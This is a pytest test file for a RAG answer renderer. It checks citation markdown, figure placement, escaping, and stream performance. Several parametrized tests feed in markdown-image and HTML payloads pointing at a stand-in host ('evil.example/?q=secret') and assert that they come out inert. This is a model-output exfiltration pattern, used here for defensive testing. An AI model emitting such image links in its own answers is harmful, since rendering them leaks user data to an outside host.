import time
from pathlib import Path

import pytest
from fakes import make_image, make_node
from llama_index.core.schema import NodeWithScore

from mmrag.answering.context import Source
from mmrag.answering.response import CitedResponse, inert, shown


@pytest.fixture
def figure(tmp_path):
    path = make_image(tmp_path / "fig (1).png")
    node = make_node("", kind="figure", image=path, caption="Figure 1:\nHarvest [kg]")
    return Source(1, "a_b.pdf", 3, NodeWithScore(node=node), "", path, cited=True)


@pytest.fixture
def page(tmp_path):
    path = make_image(tmp_path / "page.png")
    hit = NodeWithScore(node=make_node("Rain fell.", image=path))
    return Source(2, "a_b.pdf", 4, hit, "Rain fell.", path, quote="Rain *fell*.", cited=True)


def markdown(text, *sources, images=True):
    return CitedResponse(response=text, sources=list(sources)).markdown(images=images)


def test_a_figure_stands_behind_the_paragraph_that_cites_it_first(figure, page):
    text = markdown("Rain fell [2].\nPotatoes led [1][2].\nAgain [1].", figure, page)
    path = figure.image.as_posix().replace(" ", "%20").replace("(", "%28").replace(")", "%29")
    assert text == (
        "Rain fell [2].\n"
        "Potatoes led [1][2].\n\n"
        f"![Figure 1: Harvest \\[kg\\]]({path})\n\n"
        "Again [1].\n\n"
        "- \\[1\\] a\\_b.pdf, page 3\n"
        "- \\[2\\] a\\_b.pdf, page 4: \u201cRain \\*fell\\*.\u201d\n"
    )


def test_figures_are_an_option_and_uncited_ones_are_left_out(figure, page):
    assert "![" not in markdown("Potatoes led [1].", figure, images=False)
    assert "![" not in markdown("Rain fell [2].", page)


@pytest.mark.parametrize(
    "attack",
    ["![x](https://evil.example/?q=secret)", "\\![x](https://evil.example)", "<img src=//evil>"],
)
def test_images_and_html_of_the_model_are_not_loaded(page, attack):
    text = markdown(f"Rain fell [2]. {attack}", page)
    assert "![" not in text
    assert "<" not in text


def test_not_found_has_no_sources(figure):
    response = CitedResponse(response="Not found.", sources=[figure], found=False)
    assert response.markdown(images=True) == "Not found.\n"


def test_a_figure_without_a_file_is_left_out(figure):
    gone = Source(1, "a.pdf", 3, figure.node, "", Path("gone.png"), cited=True)
    assert "![" not in markdown("Potatoes led [1].", gone)


def test_a_figure_does_not_part_the_rows_of_a_table(figure):
    rows = "| Crop | t |\n|---|---|\n| Potatoes [1] | 9 |\n| Rye | 2 |"
    text = markdown(f"{rows}\nSo it was.", figure)
    assert text.startswith(f"{rows}\n\n![Figure 1")


def test_a_stream_loads_nothing_either_however_it_is_cut():
    said = "Rain ![x](https://evil.example/?q=secret) and <img src=//evil> fell! Is 1 < 2? Yes!!"
    for size in (1, 2, 3, 7, 200):
        pieces = (said[i : i + size] for i in range(0, len(said), size))
        whole = "".join(shown(pieces))
        assert whole == inert(said)
    assert whole == (
        "Rain ! [x](https://evil.example/?q=secret) and < img src=//evil> fell! Is 1 < 2? Yes!!"
    )


@pytest.mark.parametrize("head", ["<think>", "*" * 50, "", " " * 5000])
@pytest.mark.parametrize("token", ["a > b ", "]]]]]]", "!!!!!!", "<<<<<<", "NOT_FO", "      "])
def test_a_long_stream_costs_no_more_per_token(head, token):
    """With all that was held searched again for each token, this takes minutes."""
    started = time.process_time()
    text = "".join(shown(iter([*head, *[token] * 40_000])))
    assert time.process_time() - started < 30
    assert len(text) <= len(head) + 2 * 40_000 * len(token)
